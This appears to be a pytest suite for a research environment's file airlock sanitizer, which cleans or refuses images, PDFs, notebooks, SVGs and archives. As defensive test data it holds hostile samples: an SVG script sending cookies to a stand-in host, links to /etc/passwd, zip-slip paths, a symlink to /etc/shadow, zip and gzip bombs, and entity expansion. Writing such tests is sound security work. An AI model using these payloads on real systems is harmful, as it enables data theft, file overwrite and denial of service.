"""The airlock's file sanitizer (issue 17, item 4): each file is refused or cleaned, and says why.

Every test builds real files in ``tmp_path`` (Pillow, fpdf2 and pypdf, matplotlib, zipfile,
tarfile, a copy of ``/bin/true``) and goes through :func:`sanitize`; what a cleaning removes is
read back with the library that wrote it. No mocks.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import stat
import struct
import subprocess
import sys
import tarfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import matplotlib
import pytest
from fpdf import FPDF
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript, PageTrigger

from wgs_tre.airlock import Direction, FilePolicy, FileType, Sanitized, load_file_policy, sanitize
from wgs_tre.airlock.filepolicy import ArchiveLimits, DirectionRules
from wgs_tre.errors import AccessRefused, InvalidInput, PolicyError, Reason

matplotlib.use("Agg")

REPO = Path(__file__).resolve().parent.parent
OUT = Direction.EGRESS
IN = Direction.INGRESS
GPS = 0x8825


@pytest.fixture
def out(tmp_path: Path) -> Path:
    directory = tmp_path / "out"
    directory.mkdir()
    return directory


def _refused(attempt: Callable[[], object], code: Reason, *words: str) -> str:
    """The refusal's message, after checking its reason code and that it says ``words``."""
    with pytest.raises(AccessRefused) as caught:
        attempt()
    assert caught.value.code is code, caught.value.message
    for word in words:
        assert word in caught.value.message, (word, caught.value.message)
    return caught.value.message


def _nothing_written(out: Path) -> None:
    assert list(out.iterdir()) == [], "a refused file left something in the output directory"


# ---------------------------------------------------------------- type, name and size


def test_a_clean_csv_passes_unchanged(tmp_path: Path, out: Path) -> None:
    table = tmp_path / "counts.csv"
    content = "group,n\ncases,120\ncontrols,340\ncafé,15\n".encode()
    table.write_bytes(content)
    result = sanitize(table, direction=OUT, out=out)
    assert isinstance(result, Sanitized)
    assert result.path == out / "counts.csv"
    assert result.path.read_bytes() == content
    assert result.mime in (FileType.CSV, FileType.TEXT)
    assert result.actions == ()
    assert result.size == len(content)
    assert table.read_bytes() == content  # the input is never changed
    assert [p.name for p in out.iterdir()] == ["counts.csv"]  # no temporary file left behind


def test_an_executable_renamed_csv_is_refused(tmp_path: Path, out: Path) -> None:
    table = tmp_path / "table.csv"
    shutil.copy("/bin/true", table)
    message = _refused(
        lambda: sanitize(table, direction=OUT, out=out),
        Reason.FILE_MISNAMED,
        "table.csv",
        "executable program",
        "may not leave the TRE",
    )
    assert message.startswith("refused: the file's name does not match its content")
    _nothing_written(out)


def test_an_executable_is_refused_coming_in_too_whatever_its_name(
    tmp_path: Path, out: Path
) -> None:
    tool = tmp_path / "tool"
    shutil.copy("/bin/true", tool)
    _refused(
        lambda: sanitize(tool, direction=IN, out=out),
        Reason.FILE_TYPE_NOT_ALLOWED,
        "tool",
        "executable program",
        "may not come into the TRE",
    )


def test_a_png_named_jpg_is_told_its_right_name(tmp_path: Path, out: Path) -> None:
    photo = tmp_path / "plot.jpg"
    Image.new("RGB", (8, 8), (0, 0, 255)).save(photo, "PNG")
    _refused(
        lambda: sanitize(photo, direction=OUT, out=out),
        Reason.FILE_MISNAMED,
        "plot.jpg",
        "PNG",
        "rename it to end in .png",
    )


def test_a_type_allowed_in_but_not_out_is_refused_out(tmp_path: Path, out: Path) -> None:
    bundle = tmp_path / "code.zip"
    with zipfile.ZipFile(bundle, "w") as archive:
        archive.writestr("analysis.py", "print('hello')\n")
    _refused(
        lambda: sanitize(bundle, direction=OUT, out=out),
        Reason.FILE_TYPE_NOT_ALLOWED,
        "code.zip",
        "zip archive",
        "may not leave the TRE",
    )
    assert sanitize(bundle, direction=IN, out=out).path.read_bytes() == bundle.read_bytes()


def test_an_oversize_file_is_refused(tmp_path: Path, out: Path) -> None:
    table = tmp_path / "big.csv"
    table.write_bytes(b"a,b\n" + b"1,2\n" * 300_000)  # 1.2 MB
    policy = FilePolicy(
        egress=DirectionRules(allow={FileType.CSV, FileType.TEXT}, max_file_size=2**20)
    )
    _refused(
        lambda: sanitize(table, direction=OUT, out=out, policy=policy),
        Reason.FILE_TOO_LARGE,
        "big.csv",
        "1.1 MiB",
        "at most 1.0 MiB",
    )
    _nothing_written(out)


def test_text_that_is_not_utf8_is_refused(tmp_path: Path, out: Path) -> None:
    table = tmp_path / "names.csv"
    table.write_bytes("site,n\nMünchen,12\n".encode("latin-1"))
    with pytest.raises(
        InvalidInput, match=r"names.csv: is not UTF-8 text \(line 2.*save it as UTF-8"
    ):
        sanitize(table, direction=OUT, out=out)


def test_an_existing_output_and_a_link_as_input_are_refused(tmp_path: Path, out: Path) -> None:
    table = tmp_path / "t.csv"
    table.write_text("a\n1\n")
    (out / "t.csv").write_text("someone else's\n")
    with pytest.raises(InvalidInput, match="already exists"):
        sanitize(table, direction=OUT, out=out)
    assert (out / "t.csv").read_text() == "someone else's\n"
    link = tmp_path / "link.csv"
    link.symlink_to(table)
    with pytest.raises(InvalidInput, match="link.csv: is a symbolic link"):
        sanitize(link, direction=OUT, out=tmp_path / "new.csv")


def test_killed_while_writing_leaves_no_file_under_the_output_name(
    tmp_path: Path, out: Path
) -> None:
    """kill -9 in the middle of writing the copy: the output's name does not exist, only the
    hidden temporary file does, which the next attempt ignores."""
    table = tmp_path / "reference.tsv"
    with table.open("wb") as writing:
        block = b"chr1\t1000\t2000\tgene\n" * 50_000
        for _ in range(200 * 2**20 // len(block)):
            writing.write(block)
    script = (
        "import sys; from pathlib import Path; from wgs_tre.airlock import sanitize, Direction; "
        "sanitize(Path(sys.argv[1]), direction=Direction.INGRESS, out=Path(sys.argv[2]))"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", script, str(table), str(out)],
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    deadline = time.monotonic() + 60
    while not list(out.glob(".reference.tsv.*.partial")) and process.poll() is None:
        assert time.monotonic() < deadline, "the copy never started"
        time.sleep(0.001)
    process.kill()
    process.wait()
    assert not (out / "reference.tsv").exists()
    (partial,) = out.iterdir()
    assert (
        partial.name.startswith(".reference.tsv.")
        and partial.stat().st_size <= table.stat().st_size
    )
    result = sanitize(table, direction=IN, out=out)  # a second attempt completes
    assert result.size == table.stat().st_size


def test_parquet_is_known_by_its_content(tmp_path: Path, out: Path) -> None:
    import pandas as pd

    table = tmp_path / "t.parquet"
    pd.DataFrame({"n": [12, 30]}).to_parquet(table)
    result = sanitize(table, direction=OUT, out=out)
    assert result.mime is FileType.PARQUET
    assert result.path.read_bytes() == table.read_bytes()
    (tmp_path / "fake.parquet").write_bytes(b"PAR1" + b"\x00" * 64 + b"PAR1")
    with pytest.raises(InvalidInput, match="fake.parquet: is not a readable Parquet file"):
        sanitize(tmp_path / "fake.parquet", direction=OUT, out=out)


# ---------------------------------------------------------------- images


def _exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0132] = "2026:05:01 10:00:00"  # DateTime
    exif[GPS] = {1: "N", 2: (51.0, 30.0, 12.5), 3: "W", 4: (0.0, 7.0, 39.0)}
    return exif


def _picture() -> Image.Image:
    image = Image.new("RGB", (64, 48))
    image.putdata([(x * 4 % 256, y * 5 % 256, (x * y) % 256) for y in range(48) for x in range(64)])
    return image


def test_a_png_with_exif_gps_comes_out_without_it_and_with_the_same_pixels(
    tmp_path: Path, out: Path
) -> None:
    figure = tmp_path / "figure.png"
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "Dr A. Researcher")
    _picture().save(figure, exif=_exif_with_gps(), pnginfo=text)
    before = Image.open(figure)
    assert before.getexif().get_ifd(GPS), "the test image must carry GPS tags"
    assert before.info["Author"] == "Dr A. Researcher"

    result = sanitize(figure, direction=OUT, out=out)

    after = Image.open(result.path)
    assert not after.getexif().get_ifd(GPS)
    assert len(after.getexif()) == 0
    assert "exif" not in after.info and "Author" not in after.info
    assert b"PhoneMaker" not in result.path.read_bytes()
    assert after.tobytes() == before.tobytes()  # pixels unchanged
    assert "removed EXIF GPS tags (where the picture was taken)" in result.actions
    assert any("Author" in action for action in result.actions)


def test_a_jpeg_with_exif_gps_comes_out_without_it(tmp_path: Path, out: Path) -> None:
    photo = tmp_path / "photo.jpg"
    _picture().save(photo, exif=_exif_with_gps(), quality=95, comment=b"taken at home")
    assert Image.open(photo).getexif().get_ifd(GPS)

    result = sanitize(photo, direction=OUT, out=out)

    after = Image.open(result.path)
    assert after.format == "JPEG"
    assert not after.getexif().get_ifd(GPS) and len(after.getexif()) == 0
    assert "exif" not in after.info and "comment" not in after.info
    assert b"PhoneMaker" not in result.path.read_bytes()
    assert after.size == (64, 48)
    assert "removed EXIF GPS tags (where the picture was taken)" in result.actions


@pytest.mark.parametrize(
    ("suffix", "save"), [(".gif", {}), (".tiff", {}), (".webp", {"lossless": True})]
)
def test_other_images_are_encoded_again_without_metadata(
    tmp_path: Path, out: Path, suffix: str, save: dict[str, Any]
) -> None:
    picture = _picture().convert("P") if suffix == ".gif" else _picture()
    path = tmp_path / f"figure{suffix}"
    extra: dict[str, Any] = (
        {"comment": b"lab 3"} if suffix == ".gif" else {"exif": _exif_with_gps().tobytes()}
    )
    picture.save(path, **save, **extra)
    result = sanitize(path, direction=OUT, out=out)
    after = Image.open(result.path)
    assert not after.getexif().get_ifd(GPS) and "comment" not in after.info
    assert after.convert("RGB").tobytes() == Image.open(path).convert("RGB").tobytes()
    assert result.actions


def test_a_png_with_an_archive_appended_loses_it(tmp_path: Path, out: Path) -> None:
    """A polyglot: a PNG that is also a zip (its directory is at the end). Encoded again from
    its pixels, the picture stays and the archive does not."""
    path = tmp_path / "figure.png"
    _picture().save(path)
    smuggled = io.BytesIO()
    with zipfile.ZipFile(smuggled, "w") as archive:
        archive.writestr("participants.csv", "id\nP001\n")
    path.write_bytes(path.read_bytes() + smuggled.getvalue())
    assert zipfile.ZipFile(path).namelist() == ["participants.csv"]
    result = sanitize(path, direction=OUT, out=out, name="figs/figure.png")
    assert result.path == out / "figure.png"
    assert b"participants.csv" not in result.path.read_bytes()
    assert not zipfile.is_zipfile(result.path)
    assert Image.open(result.path).tobytes() == _picture().tobytes()


def test_an_image_too_large_to_decode_is_refused(tmp_path: Path, out: Path) -> None:
    path = tmp_path / "huge.png"
    Image.new("1", (4000, 3000)).save(path)
    _refused(
        lambda: sanitize(
            path, direction=OUT, out=out, policy=FilePolicy(max_image_pixels=10_000_000)
        ),
        Reason.FILE_TOO_LARGE,
        "huge.png",
        "4000 x 3000 pixels",
    )


# ---------------------------------------------------------------- PDF


def _pdf(path: Path, pages: int = 2) -> None:
    document = FPDF()
    document.set_font("helvetica", size=12)
    for number in range(1, pages + 1):
        document.add_page()
        document.cell(text=f"Table {number}: counts by group")
    document.set_author("Dr A. Researcher")
    document.output(str(path))


def test_a_pdf_with_javascript_and_an_attachment_comes_out_without_them(
    tmp_path: Path, out: Path
) -> None:
    plain = tmp_path / "plain.pdf"
    _pdf(plain)
    writer = PdfWriter(clone_from=plain)
    writer.add_open_action(JavaScript("app.alert('exfiltrate');"))  # pypdf 7's add_js
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('page');"))
    writer.add_attachment("participants.csv", b"id,age\nP001,54\n")
    writer.add_metadata({"/Author": "Dr A. Researcher", "/Subject": "cohort 7"})
    report = tmp_path / "report.pdf"
    writer.write(report)
    before = PdfReader(report)
    assert "/JavaScript" in before.root_object["/Names"]
    assert before.attachments == {"participants.csv": [b"id,age\nP001,54\n"]}

    result = sanitize(report, direction=OUT, out=out)

    after = PdfReader(result.path)
    assert len(after.pages) == 2
    assert "Table 2: counts by group" in after.pages[1].extract_text()
    assert "/Names" not in after.root_object and "/OpenAction" not in after.root_object
    assert after.attachments == {}
    assert not after.metadata
    raw = result.path.read_bytes()
    assert "/AA" not in after.pages[0]
    for leak in (b"/JavaScript", b"/JS", b"exfiltrate", b"/EmbeddedFile", b"P001", b"Researcher"):
        assert leak not in raw, leak
    assert "removed embedded JavaScript" in result.actions
    assert "removed embedded files (attachments)" in result.actions
    assert any("document information" in action for action in result.actions)


def test_a_pdf_with_a_javascript_link_and_a_file_annotation_loses_both(
    tmp_path: Path, out: Path
) -> None:
    plain = tmp_path / "plain.pdf"
    _pdf(plain, pages=1)
    writer = PdfWriter(clone_from=plain)
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    page = writer.pages[0]
    js = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")}
    )
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): js,
        }
    )
    attachment = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
        }
    )
    page[NameObject("/Annots")] = ArrayObject(
        [writer._add_object(link), writer._add_object(attachment)]
    )
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): js})
    page[NameObject("/PieceInfo")] = DictionaryObject(
        {NameObject("/Drawer"): TextStringObject("layer: hidden cohort counts")}
    )
    path = tmp_path / "linked.pdf"
    writer.write(path)

    result = sanitize(path, direction=OUT, out=out)

    page = PdfReader(result.path).pages[0]
    annotations = [a.get_object() for a in page.get("/Annots", [])]
    assert [a["/Subtype"] for a in annotations] == ["/Link"]
    assert "/A" not in annotations[0] and "/AA" not in page
    assert b"/JavaScript" not in result.path.read_bytes()
    assert "removed embedded JavaScript" in result.actions
    assert "removed FileAttachment annotations" in result.actions
    assert "/PieceInfo" not in page and b"hidden cohort counts" not in result.path.read_bytes()
    assert "removed the XMP metadata and application data of pages and images" in result.actions


def test_an_encrypted_pdf_is_refused(tmp_path: Path, out: Path) -> None:
    plain = tmp_path / "plain.pdf"
    _pdf(plain, pages=1)
    writer = PdfWriter(clone_from=plain)
    writer.encrypt(user_password="", owner_password="secret", algorithm="AES-128")
    locked = tmp_path / "locked.pdf"
    writer.write(locked)
    _refused(
        lambda: sanitize(locked, direction=OUT, out=out),
        Reason.ENCRYPTED,
        "locked.pdf",
        "without a password",
    )
    _nothing_written(out)


# ---------------------------------------------------------------- notebooks


def _notebook(path: Path) -> None:
    notebook = {
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": "# Cohort summary"},
            {
                "cell_type": "code",
                "execution_count": 7,
                "metadata": {"tags": ["summary"], "ExecuteTime": {"end_time": "2026-05-01T10:00"}},
                "outputs": [
                    {"output_type": "stream", "name": "stdout", "text": "P001 age 54\n"},
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {
                            "text/plain": "a widget",
                            "application/vnd.jupyter.widget-view+json": {"model_id": "m1"},
                        },
                    },
                ],
                "source": "print(first_row)",
            },
        ],
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
            "widgets": {
                "application/vnd.jupyter.widget-state+json": {
                    "state": {
                        "m1": {
                            "model_name": "x",
                            "model_module": "y",
                            "model_module_version": "1",
                            "state": {"value": "P001"},
                        }
                    },
                    "version_major": 2,
                    "version_minor": 0,
                }
            },
            "author": "Dr A. Researcher",
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    path.write_text(json.dumps(notebook))


def test_a_notebook_comes_out_without_its_outputs(tmp_path: Path, out: Path) -> None:
    path = tmp_path / "analysis.ipynb"
    _notebook(path)
    result = sanitize(path, direction=OUT, out=out)
    assert result.mime is FileType.NOTEBOOK
    cleaned = json.loads(result.path.read_text())
    code = cleaned["cells"][1]
    assert code["outputs"] == [] and code["execution_count"] is None
    assert "".join(code["source"]) == "print(first_row)"
    assert code["metadata"] == {"tags": ["summary"]}
    assert set(cleaned["metadata"]) == {"kernelspec"}
    assert "P001" not in result.path.read_text()
    assert "removed the outputs of 1 code cells" in result.actions
    assert "removed the notebook's widget state" in result.actions


def test_a_notebook_keeps_its_outputs_when_they_are_the_reviewed_object(
    tmp_path: Path, out: Path
) -> None:
    path = tmp_path / "analysis.ipynb"
    _notebook(path)
    result = sanitize(path, direction=OUT, out=out, keep_outputs=True)
    cleaned = json.loads(result.path.read_text())
    code = cleaned["cells"][1]
    assert code["execution_count"] == 7
    assert "".join(code["outputs"][0]["text"]) == "P001 age 54\n"
    assert set(code["outputs"][1]["data"]) == {"text/plain"}  # the widget view went
    assert "widgets" not in cleaned["metadata"]
    assert not any("outputs of" in action for action in result.actions)


def test_a_notebook_renamed_json_and_a_broken_notebook_are_refused(
    tmp_path: Path, out: Path
) -> None:
    disguised = tmp_path / "results.json"
    _notebook(disguised)
    _refused(
        lambda: sanitize(disguised, direction=OUT, out=out),
        Reason.FILE_MISNAMED,
        "results.json",
        "Jupyter notebook",
        ".ipynb",
    )
    broken = tmp_path / "broken.ipynb"
    broken.write_text(
        json.dumps(
            {"cells": [{"cell_type": "code"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
        )
    )
    with pytest.raises(InvalidInput, match="broken.ipynb: is not a valid Jupyter notebook"):
        sanitize(broken, direction=OUT, out=out)


# ---------------------------------------------------------------- SVG


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="10" height="10">{}</svg>'
)


@pytest.mark.parametrize(
    ("body", "found"),
    [
        ("<script>fetch('https://x.example/'+document.cookie)</script>", "a <script> element"),
        ('<rect width="5" height="5" onload="alert(1)"/>', "an event handler (onload)"),
        (
            '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">hi</p></foreignObject>',
            "<foreignobject>",
        ),
        ('<image xlink:href="https://tracker.example/p.png"/>', "a link out of the drawing"),
        ('<image href="file:///etc/passwd"/>', "a link out of the drawing"),
        ('<a href="javascript:alert(1)"><text>x</text></a>', "a script address"),
        ("<style>@import url(https://x.example/s.css);</style>", "a <style> that loads something"),
        ('<rect fill="url(https://x.example/p.svg#g)"/>', "a fill that loads something"),
        (
            '<a><set attributeName="href" to="x:0;javascript:alert(1)"/><text>go</text></a>',
            "an <set> changing href",
        ),
        ('<image href="data:image/svg+xml;base64,PHN2Zz4="/>', "a link out of the drawing"),
    ],
)
def test_an_svg_with_active_content_is_refused(
    tmp_path: Path, out: Path, body: str, found: str
) -> None:
    path = tmp_path / "figure.svg"
    path.write_text(SVG.format(body))
    _refused(
        lambda: sanitize(path, direction=OUT, out=out),
        Reason.ACTIVE_CONTENT,
        "figure.svg",
        found,
        "export the figure again",
    )
    _nothing_written(out)


def test_an_svg_with_a_stylesheet_instruction_is_refused(tmp_path: Path, out: Path) -> None:
    path = tmp_path / "styled.svg"
    path.write_text(
        '<?xml version="1.0"?>\n<?xml-stylesheet href="https://x.example/s.css"?>\n'
        + SVG.format("<rect/>")
    )
    _refused(
        lambda: sanitize(path, direction=OUT, out=out),
        Reason.ACTIVE_CONTENT,
        "styled.svg",
        "a processing instruction <?xml-stylesheet?>",
    )


def test_an_svg_with_entity_expansion_is_refused(tmp_path: Path, out: Path) -> None:
    path = tmp_path / "laughs.svg"
    path.write_text(
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>\n'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
    )
    _refused(lambda: sanitize(path, direction=OUT, out=out), Reason.ACTIVE_CONTENT, "laughs.svg")


def test_a_matplotlib_svg_passes_unchanged(tmp_path: Path, out: Path) -> None:
    import matplotlib.pyplot as plt

    figure, axes = plt.subplots()
    axes.plot([1, 2, 3], [3, 1, 2], label="cases")
    axes.imshow([[0, 1], [1, 0]], extent=(1, 2, 1, 2))  # an embedded PNG (a data: address)
    axes.legend()
    path = tmp_path / "plot.svg"
    figure.savefig(path)
    plt.close(figure)
    result = sanitize(path, direction=OUT, out=out)
    assert result.mime is FileType.SVG
    assert result.path.read_bytes() == path.read_bytes()


# ---------------------------------------------------------------- archives


def test_a_zip_bomb_is_refused_by_its_ratio(tmp_path: Path, out: Path) -> None:
    bomb = tmp_path / "data.zip"
    with (
        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.csv", "w") as member,
    ):
        for _ in range(200):
            member.write(bytes(2**20))  # 200 MiB of zeros
    assert bomb.stat().st_size < 1_000_000
    started = time.perf_counter()
    _refused(
        lambda: sanitize(bomb, direction=IN, out=out),
        Reason.UNSAFE_ARCHIVE,
        "data.zip",
        "'zeros.csv' unpacks to 209,715,200 bytes",
        "a zip bomb",
    )
    assert time.perf_counter() - started < 5  # refused from the directory, not by unpacking
    _nothing_written(out)


def _lying_zip(path: Path, megabytes: int) -> None:
    """A zip whose member declares it unpacks to its compressed size (ratio 1): its local
    header and central directory say so, and its data is ``megabytes`` MiB of zeros."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("notes.txt", bytes(megabytes * 2**20))
    data = bytearray(path.read_bytes())
    local, central = data.find(b"PK\x03\x04"), data.find(b"PK\x01\x02")
    (compressed,) = struct.unpack_from("<L", data, local + 18)
    struct.pack_into("<L", data, local + 22, compressed)
    struct.pack_into("<L", data, central + 24, compressed)
    path.write_bytes(bytes(data))
    assert zipfile.ZipFile(path).getinfo("notes.txt").file_size == compressed


def test_a_zip_lying_about_its_size_is_refused(tmp_path: Path, out: Path) -> None:
    liar = tmp_path / "liar.zip"
    _lying_zip(liar, 50)
    _refused(
        lambda: sanitize(liar, direction=IN, out=out),
        Reason.UNSAFE_ARCHIVE,
        "liar.zip",
        "'notes.txt' holds more than the",
        "bytes it declares",
    )


def test_an_archive_unpacking_to_more_than_the_total_is_refused(tmp_path: Path, out: Path) -> None:
    bundle = tmp_path / "bundle.zip"
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_STORED) as archive:
        for number in range(3):
            archive.writestr(f"part{number}.csv", b"a,b\n" + b"1,2\n" * 100_000)
    policy = FilePolicy(archives=ArchiveLimits(max_total_uncompressed=1_000_000))
    _refused(
        lambda: sanitize(bundle, direction=IN, out=out, policy=policy),
        Reason.UNSAFE_ARCHIVE,
        "bundle.zip",
        "unpacks to more than",
    )


@pytest.mark.parametrize(
    "name", ["../../home/researcher/.bashrc", "/etc/cron.d/job", "a/../../b.txt", "C:\\x.txt"]
)
def test_a_zip_with_a_name_climbing_out_is_refused(tmp_path: Path, out: Path, name: str) -> None:
    bundle = tmp_path / "scripts.zip"
    with zipfile.ZipFile(bundle, "w") as archive:
        archive.writestr("ok.py", "print(1)\n")
        info = zipfile.ZipInfo("placeholder")
        info.filename = name  # zipfile would tidy the name given to ZipInfo
        archive.writestr(info, "echo owned\n")
    _refused(
        lambda: sanitize(bundle, direction=IN, out=out),
        Reason.UNSAFE_ARCHIVE,
        "scripts.zip",
        repr(name),
        "outside the folder",
    )


def test_a_zip_with_a_symlink_is_refused(tmp_path: Path, out: Path) -> None:
    bundle = tmp_path / "refs.zip"
    with zipfile.ZipFile(bundle, "w") as archive:
        link = zipfile.ZipInfo("genome.fa")
        link.create_system = 3  # Unix
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/shadow")
    _refused(
        lambda: sanitize(bundle, direction=IN, out=out),
        Reason.UNSAFE_ARCHIVE,
        "refs.zip",
        "'genome.fa' is a symbolic link",
    )


def _zip_of(path: Path, name: str, content: bytes) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return path


def test_archives_nested_deeper_than_the_limit_are_refused(tmp_path: Path, out: Path) -> None:
    inner = _zip_of(tmp_path / "inner.zip", "table.csv", b"a,b\n1,2\n")
    middle = _zip_of(tmp_path / "middle.zip", "inner.zip", inner.read_bytes())
    outer = _zip_of(tmp_path / "outer.zip", "middle.zip", middle.read_bytes())
    assert sanitize(middle, direction=IN, out=out).path.read_bytes() == middle.read_bytes()
    _refused(
        lambda: sanitize(outer, direction=IN, out=out),
        Reason.UNSAFE_ARCHIVE,
        "outer.zip/middle.zip",
        "'inner.zip' is an archive inside an archive, more than 2 deep",
    )


def test_an_archive_with_too_many_members_is_refused(tmp_path: Path, out: Path) -> None:
    bundle = tmp_path / "many.zip"
    with zipfile.ZipFile(bundle, "w") as archive:
        for number in range(11):
            archive.writestr(f"f{number}.txt", "x\n")
    policy = FilePolicy(archives=ArchiveLimits(max_members=10))
    _refused(
        lambda: sanitize(bundle, direction=IN, out=out, policy=policy),
        Reason.UNSAFE_ARCHIVE,
        "many.zip",
        "more than 10 members",
    )


def test_an_archive_member_is_checked_by_its_content(tmp_path: Path, out: Path) -> None:
    program = _zip_of(tmp_path / "tools.zip", "readme.txt", Path("/bin/true").read_bytes())
    _refused(
        lambda: sanitize(program, direction=IN, out=out),
        Reason.FILE_TYPE_NOT_ALLOWED,
        "tools.zip: the member 'readme.txt'",
        "executable program",
    )
    picture = io.BytesIO()
    _picture().save(picture, "PNG", exif=_exif_with_gps())
    photos = _zip_of(tmp_path / "photos.zip", "site.png", picture.getvalue())
    _refused(
        lambda: sanitize(photos, direction=IN, out=out),
        Reason.FILE_TYPE_NOT_ALLOWED,
        "photos.zip: the member 'site.png'",
        "cleaned only on its own",
    )


def _tar_gz(path: Path, members: list[tarfile.TarInfo], contents: dict[str, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for member in members:
            data = contents.get(member.name)
            if data is not None:
                member.size = len(data)
            archive.addfile(member, io.BytesIO(data) if data is not None else None)
    return path


def test_a_clean_tar_gz_passes_unchanged_and_a_tar_link_is_refused(
    tmp_path: Path, out: Path
) -> None:
    files = {
        "pipeline/__init__.py": b"",  # empty: nothing to check
        "pipeline/run.py": b"import sys\nprint(sys.argv)\n",
        "pipeline/ref.bed": b"chr1\t1\t100\n",
    }
    good = _tar_gz(tmp_path / "pipeline.tar.gz", [tarfile.TarInfo(n) for n in files], files)
    result = sanitize(good, direction=IN, out=out)
    assert result.path.read_bytes() == good.read_bytes()
    assert result.actions == ("checked the archive's 3 members: nothing unsafe; kept as it is",)

    link = tarfile.TarInfo("pipeline/data")
    link.type, link.linkname = tarfile.SYMTYPE, "/data/raw"
    bad = _tar_gz(tmp_path / "linked.tgz", [link], {})
    _refused(
        lambda: sanitize(bad, direction=IN, out=out),
        Reason.UNSAFE_ARCHIVE,
        "linked.tgz",
        "'pipeline/data' is a symbolic link",
    )


def test_a_gzip_bomb_is_refused(tmp_path: Path, out: Path) -> None:
    bomb = tmp_path / "table.csv.gz"
    with gzip.open(bomb, "wb") as stream:
        for _ in range(50):
            stream.write(bytes(2**20))
    _refused(
        lambda: sanitize(bomb, direction=IN, out=out),
        Reason.UNSAFE_ARCHIVE,
        "table.csv.gz",
        "a zip bomb",
    )


# ---------------------------------------------------------------- policy


def test_the_shipped_policy_is_the_default(tmp_path: Path) -> None:
    assert load_file_policy(REPO / "policies") == FilePolicy()
    assert load_file_policy(tmp_path) == FilePolicy()  # missing: the defaults
    (tmp_path / "files.yaml").write_text("")
    assert load_file_policy(tmp_path) == FilePolicy()  # empty: the defaults
    assert FilePolicy().egress.max_file_size == 100 * 2**20
    assert FilePolicy().ingress.max_file_size == 500 * 2**20


@pytest.mark.parametrize(
    ("yaml", "where"),
    [
        ("egress:\n  allow: [application/x-msdownload]\n", "egress.allow"),
        ("ingress:\n  max_file_size: lots\n", "ingress.max_file_size"),
        ("archives:\n  max_ratio: 0\n", "archives.max_ratio"),
        ("archives:\n  max_depth: 0\n", "archives.max_depth"),
        ("ingress_needs_approval: perhaps\n", "ingress_needs_approval"),
        ("egress:\n  alow: [text/csv]\n", "egress.alow"),
    ],
)
def test_a_broken_policy_names_the_key(tmp_path: Path, yaml: str, where: str) -> None:
    (tmp_path / "files.yaml").write_text(yaml)
    with pytest.raises(PolicyError) as caught:
        load_file_policy(tmp_path)
    assert str(tmp_path / "files.yaml") in caught.value.message
    assert f": {where}" in caught.value.message


def test_a_direction_without_an_allowlist_lets_nothing_through(tmp_path: Path, out: Path) -> None:
    (tmp_path / "files.yaml").write_text("egress:\n  max_file_size: 1MiB\n")
    policy = load_file_policy(tmp_path)
    table = tmp_path / "t.csv"
    table.write_text("a\n1\n")
    _refused(
        lambda: sanitize(table, direction=OUT, out=out, policy=policy),
        Reason.FILE_TYPE_NOT_ALLOWED,
        "t.csv",
    )
    result = sanitize(table, direction=IN, out=out, policy=policy)
    assert result.needs_approval  # the default: a steward approves what comes in
